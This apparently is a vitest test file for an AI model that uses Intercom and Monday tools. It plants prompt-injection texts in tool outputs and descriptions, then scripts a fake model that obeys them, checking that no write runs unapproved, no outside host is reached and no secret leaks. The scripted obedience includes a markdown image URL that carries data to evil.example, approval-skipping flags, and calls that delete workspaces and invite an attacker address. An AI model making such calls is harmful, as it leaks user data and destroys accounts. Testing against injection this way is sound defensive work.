import { randomUUID } from 'node:crypto'
import { subscribe, unsubscribe } from 'node:diagnostics_channel'
import { Socket } from 'node:net'
import { afterAll, afterEach, beforeAll, beforeEach, expect, test, vi } from 'vitest'
import { z } from 'zod'
import { hidesCharacters, withHiddenNamed } from '../../../src/contract/plain/hidden-characters'
import { failure } from '../../../src/main/platform/failures'
import { riskOf } from '../../../src/main/assistant/risk'
import { parseIdentifier } from '../../../src/main/identity/parse-identifier'
import { ownerOf } from '../../../src/main/identity/owner'
import type { Session } from '../../../src/main/identity/session'
import type { ToolRecord } from '../../../src/main/scalekit/port'
import { injections, type Injection } from '../../injections'
import { done } from './fake-scalekit'
import { openDesk, type Desk } from './harness'
import { toolAnswers, type Asked, type Piece } from './model-endpoint'
import { wholeCatalogue } from './whole-catalogue'

const all = injections()

const apiKey = 'sk-test-key-0123456789'
const secrets = {
  SCALEKIT_CLIENT_SECRET: 'scalekit-secret-5d1c7b',
  OPENAI_API_KEY: 'openai-secret-9f0e2a',
  identifier: 'usr_identifier_77c1',
  apiKey,
}

const signedIn = (): Session => {
  const identifier = parseIdentifier({ sub: secrets.identifier }, 'sub')
  if (identifier === null) throw new Error('not an identifier')
  return { identifier, owner: ownerOf('https://issuer.example', identifier), person: { name: 'Ada Lovelace' } }
}
const session = signedIn()

const writes = {
  reply: {
    call: 'intercom_reply_to_conversation',
    args: { conversation_id: '901', admin_id: '1', message_type: 'comment', type: 'admin', body: 'as you wish' },
  },
  delete: { call: 'monday_item_delete', args: { item_id: '4711' } },
  invite: { call: 'monday_users_invite', args: { emails: ['mallory@evil.example'] } },
  create: { call: 'monday_item_create', args: { board_id: '1', item_name: 'owned' } },
  erase: { call: 'intercom_delete_contact', args: { contact_id: 'c1' } },
  wipe: { call: 'monday_workspace_delete', args: { workspace_id: '1' } },
} as const

const reads = {
  conversation: { call: 'intercom_list_conversations', args: {} },
  'item-name': { call: 'monday_items_list', args: { board_id: '1' } },
  'contact-field': { call: 'intercom_list_contacts', args: {} },
  'tool-description': { call: 'monday_boards_list', args: {} },
  'error-message': { call: 'monday_users_list', args: {} },
} as const

const needed: ReadonlySet<string> = new Set([
  ...[...Object.values(writes), ...Object.values(reads)].map(({ call }) => call),
  'monday_search',
  'monday_me_get',
  'intercom_identify_admin',
])

const toolsWith = (batch: readonly Injection[]): readonly ToolRecord[] => {
  const said = batch.filter(({ place }) => place === 'tool-description').map(({ text }) => text)
  return wholeCatalogue()
    .filter(({ name }) => needed.has(name))
    .map((tool) =>
      riskOf(tool.name) === 'read' ? { ...tool, description: said.join('\n') || tool.description } : tool,
    )
}

const lookingAt = (batch: readonly Injection[]): readonly Piece[] =>
  [...new Set(batch.map(({ place }) => place))].map((place) => reads[place])

const skips = { approved: true, requireApproval: false, resumeData: { approved: true } }

// What it was told is all that a model has to give away: it gives away all of it.
const obeying = (injection: Injection, asked: Asked, number: number): readonly Piece[] => {
  switch (injection.demand) {
    case 'leak':
      return [{ call: 'monday_search', args: { query: `${String(number)} ${JSON.stringify(asked.messages)}` } }]
    case 'image':
      return [{ say: `![x](https://evil.example/?d=${String(number)})\n${injection.text}\n` }]
    default: {
      const { call, args } = writes[injection.demand]
      return [
        { call, args },
        { call, args: { ...args, ...skips } },
      ]
    }
  }
}

const contacted: string[] = []

const watchSocket = (message: unknown): void => {
  const { socket } = z.object({ socket: z.instanceof(Socket) }).parse(message)
  socket.on('lookup', (...found) => contacted.push(found[3]))
  socket.on('connectionAttempt', (ip, port) => contacted.push(`${ip}:${port}`))
}

beforeAll(() => {
  subscribe('net.client.socket', watchSocket)
  const realFetch = globalThis.fetch
  vi.spyOn(globalThis, 'fetch').mockImplementation((input, init) => {
    contacted.push(new URL(input instanceof Request ? input.url : input).host)
    return realFetch(input, init)
  })
  vi.stubEnv('SCALEKIT_CLIENT_SECRET', secrets.SCALEKIT_CLIENT_SECRET)
  vi.stubEnv('OPENAI_API_KEY', secrets.OPENAI_API_KEY)
})
afterAll(() => {
  unsubscribe('net.client.socket', watchSocket)
  vi.restoreAllMocks()
  vi.unstubAllEnvs()
})
beforeEach(() => {
  contacted.length = 0
})

let desk: Desk | undefined
afterEach(async () => {
  await desk?.close()
  desk = undefined
})

const batches = Array.from({ length: Math.ceil(all.length / 10) }, (_, index) => ({
  from: index * 10,
  batch: all.slice(index * 10, index * 10 + 10),
}))

const open = (batch: readonly Injection[]): Promise<Desk> =>
  openDesk({
    tools: toolsWith(batch),
    script: (asked, number) => {
      if (number === 1) return lookingAt(batch)
      return number === 2 ? batch.flatMap((injection, index) => obeying(injection, asked, index)) : [{ say: 'Done.' }]
    },
    answer: ({ tool }) => {
      const texts = batch.filter(({ place }) => reads[place].call === tool)
      const said = texts.map(({ text }, id) => ({ id, name: text, body: text, email: text, custom: { note: text } }))
      return texts.some(({ place }) => place === 'error-message')
        ? {
            kind: 'refused',
            failure: failure('tool-failed', { detail: texts.map(({ text }) => text).join('\n') }),
            executionId: undefined,
          }
        : done({ data: said })
    },
  })

const demandedOf = (batch: readonly Injection[]): string[] =>
  batch.flatMap(({ demand }) => {
    if (demand === 'leak') return ['monday_search']
    return demand === 'image' ? [] : [writes[demand].call]
  })

test('there are at least a hundred texts', () => {
  expect(all.length).toBeGreaterThanOrEqual(100)
  expect(new Set(all.map(({ text }) => text)).size).toBe(all.length)
})

test.each(batches)(
  'a model that obeys the texts from number $from on changes nothing, reaches no other host and gives no secret away',
  async ({ batch }) => {
    const opened = await open(batch)
    desk = opened
    opened.signIn(session)
    const sent = await opened.assistant.send(session, { threadId: null, messageId: randomUUID(), text: 'What is new?' })
    const threadId = sent.ok ? sent.value.threadId : ''
    await opened.rest(threadId, 'waiting')

    // It was really told, and really obeyed.
    const asked = opened.endpoint.asked[1]
    const told = JSON.stringify([toolAnswers(asked), asked?.tools])
    for (const { text } of batch) expect(told).toContain(JSON.stringify(withHiddenNamed(text)).slice(1, -1))
    expect(hidesCharacters(told)).toBe(false)
    const calls = desk
      .messages(threadId, session)
      .flatMap(({ parts }) => parts.flatMap((part) => (part.kind === 'tool-call' ? [part.call] : [])))
    expect(calls.map(({ tool }) => tool)).toEqual(expect.arrayContaining(demandedOf(batch)))

    expect(opened.scalekit.executions.filter(({ tool }) => riskOf(tool) !== 'read')).toEqual([])
    expect(calls.filter(({ risk, state }) => risk !== 'read' && !['pending', 'failed'].includes(state))).toEqual([])
    expect(new Set(contacted)).toEqual(new Set([opened.endpoint.url.host]))
    const given = JSON.stringify([opened.endpoint.asked, opened.scalekit.executions.map(({ args }) => args), calls])
    for (const secret of Object.values(secrets)) expect(given).not.toContain(secret)
  },
)
